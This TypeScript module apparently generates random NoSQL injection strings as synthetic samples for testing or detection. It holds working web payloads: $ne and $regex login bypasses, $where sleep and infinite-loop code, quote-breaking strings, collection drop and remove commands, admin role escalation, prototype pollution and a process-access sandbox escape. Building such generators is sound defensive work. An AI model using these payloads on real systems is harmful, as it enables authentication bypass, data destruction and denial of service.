import type { RandomSource } from "./random-source.ts";

const FIELDS = [
  "username",
  "password",
  "user",
  "pass",
  "email",
  "login",
  "id",
  "_id",
  "role",
  "token",
  "sku",
  "name",
  "filter",
  "q",
  "search",
  "status",
  "pin",
  "code",
];
const OPERATORS = [
  "$ne",
  "$gt",
  "$gte",
  "$lt",
  "$lte",
  "$eq",
  "$in",
  "$nin",
  "$regex",
  "$exists",
  "$not",
  "$size",
  "$type",
  "$mod",
  "$all",
  "$elemMatch",
  "$options",
];

function operand(r: RandomSource): string {
  return r.pick([
    "null",
    '""',
    "1",
    "0",
    "-1",
    '"a"',
    "true",
    "false",
    '".*"',
    '"^a"',
    '["a","b"]',
    "[]",
    "{}",
    "undefined",
    '"x"',
    "/.*/",
    "''",
    "'^ad'",
    '"admin"',
    "99999",
    "[null]",
  ]);
}

function operatorObject(r: RandomSource): string {
  const op = r.pick(OPERATORS);
  const key = r.pick([`"${op}"`, `"${op}"`, op, `'${op}'`, `"\\u0024${op.slice(1)}"`]);
  return `{${r.pick(["", " "])}${key}${r.pick([":", ": ", " : "])}${operand(r)}${r.pick(["", " "])}}`;
}

function code(r: RandomSource): string {
  const f = r.pick(FIELDS);
  const n = r.int(1, 9999);
  return r.pick([
    `this.${f}=='a'`,
    `this.${f} == this.${r.pick(FIELDS)}`,
    `sleep(${n})`,
    `function(){return true}`,
    `function() { sleep(${n}); return true; }`,
    `this.${f}.match(/^a/)`,
    `this.${f}.length > ${n}`,
    "return true",
    "1==1",
    "true",
    `while(true){}`,
    `var d=new Date();do{c=new Date()}while(c-d<${n})`,
    `this.${f}!=null`,
    `Object.keys(this)[0].match('^.{0}')`,
    `this.constructor.constructor('return process')()`,
    `db.version()`,
    `tojson(this)`,
    `return this.${f} == '${r.name()}'`,
    `this['${f}']`,
    `new Date()-d<${n}`,
  ]);
}

function jsonForm(r: RandomSource): string {
  const f = r.pick(FIELDS);
  const g = r.pick(FIELDS);
  return r.pick([
    operatorObject(r),
    `"${r.pick(OPERATORS)}":`,
    `"${r.pick(["$where", "$or", "$and", "$nor", "$expr", "$function", "$match", "$lookup", "$set", "$unset", "$out"])}":`,
    `"${f}[${r.pick(OPERATORS)}]":`,
    `"__proto__":`,
    `"constructor.prototype.${f}":`,
    `"$${r.pick(["inc", "push", "rename", "group", "project"])}":`,
    `{"${f}":${operatorObject(r)}}`,
    `{"${f}":${operatorObject(r)},"${g}":${operatorObject(r)}}`,
    `{"${f}":"admin","${g}":${operatorObject(r)}}`,
    `"${f}":${operatorObject(r)}`,
    `{ ${f}: ${operatorObject(r)} }`,
    `{"$where":"${code(r)}"}`,
    `{$where: '${code(r)}'}`,
    `$where: '${code(r)}'`,
    `{"$or":[{"${f}":"a"},{"${g}":${operatorObject(r)}}]}`,
    `{"$or":[{},{"${f}":"x"}]}`,
    `{"$and":[{"${f}":${operatorObject(r)}},{"a":1}]}`,
    `{"$nor":[{"${f}":1}]}`,
    `{"$expr":{"$eq":[1,1]}}`,
    `{"$expr":{"$function":{"body":"${code(r)}","args":[],"lang":"js"}}}`,
    `[{"$match":{"${f}":${operatorObject(r)}}}]`,
    `[{"$lookup":{"from":"users","localField":"a","foreignField":"b","as":"c"}}]`,
    `{"$set":{"role":"admin"}}`,
    `{"$regex":"^${r.name()}","$options":"i"}`,
    `, $or: [ {}, { '${f}':'${r.name()}`,
    `', $or: [ {}, { 'a':'a`,
    `"}, {"$gt": ""`,
    `"},"${f}":{"$ne":"x"}`,
    `{"selector":{"${f}":{"$gt":null}}}`,
    `{"${f}":{"$in":["admin","root","${r.name()}"]}}`,
    `{"${f}[$ne]":1}`,
    `true, $where: '1 == 1'`,
    `{"$unset":{"${f}":1}}`,
    `{"$out":"${r.name()}"}`,
    `{"query":{"${f}":${operatorObject(r)}}}`,
    `{"$comment":"x","$where":"${code(r)}"}`,
    `{"${f}":{"$not":${operatorObject(r)}}}`,
  ]);
}

function formForm(r: RandomSource): string {
  const pair = () =>
    `${r.pick(FIELDS)}[${r.pick(OPERATORS)}]=${r.pick(["", "1", "x", ".*", "^a", "null", "true", r.name(), "a.*", "[]"])}`;
  return r.pick([
    pair(),
    `${pair()}&${pair()}`,
    `${r.pick(FIELDS)}=admin&${pair()}`,
    `[${r.pick(OPERATORS)}]=${r.name()}`,
    `?${pair()}`,
    `${r.pick(FIELDS)}[0][${r.pick(OPERATORS)}]=1`,
    `[${r.pick(OPERATORS)}]`,
    `${r.pick(FIELDS)}[$in][]=admin&${r.pick(FIELDS)}[$in][]=root`,
    `${r.pick(FIELDS)}[$where]=${code(r)}`,
  ]);
}

function codeForm(r: RandomSource): string {
  const quote = r.pick(["'", "'", '"']);
  const x = r.name();
  return r.pick([
    `${quote}; ${code(r)}; var a=${quote}`,
    `${quote};return true;var x=${quote}${x}`,
    `${quote} || ${quote}1${quote}==${quote}1`,
    `${quote} || 1==1//`,
    `${quote} || 1==1%00`,
    `${quote} || ${code(r)} || ${quote}`,
    `${quote} && ${code(r)} && ${quote}1`,
    `${quote}||this.${r.pick(FIELDS)}||${quote}`,
    `1; ${code(r)}`,
    `1;sleep(${r.int(100, 9999)})`,
    `a${quote}; db.${x}.drop(); var b=${quote}`,
    `db.${x}.find({"a":${operatorObject(r)}})`,
    `db.${x}.remove({})`,
    `;db.getCollectionNames()`,
    `${quote}});db.${x}.insert({a:1});//`,
    `true;while(1);`,
    `${x}${quote} || ${quote}a${quote}==${quote}a`,
    `${quote}==${quote}`,
    `" || "" == "`,
    `0;var date=new Date();do{curDate=new Date();}while(curDate-date<${r.int(1000, 9999)})`,
    `${quote} && this.${r.pick(FIELDS)}.match(/.*/)//`,
    `${quote}}, ${quote}$or${quote}: [{}, {${quote}a${quote}:${quote}a`,
    `'+(function(){return 1})()+'`,
    `${quote} || true || ${quote}`,
    `db.injection.insert({success:1});return 1;`,
    `$gt`,
    `{$gt: ''}`,
    `${quote}; sleep(${r.int(1000, 9999)}); ${quote}`,
    `\\'; return ''==\\'`,
  ]);
}

/** A made-up NoSQL injection attempt. */
export function queryPayload(r: RandomSource): string {
  const kind = r.next();
  if (kind < 0.5) return jsonForm(r);
  return kind < 0.7 ? formForm(r) : codeForm(r);
}
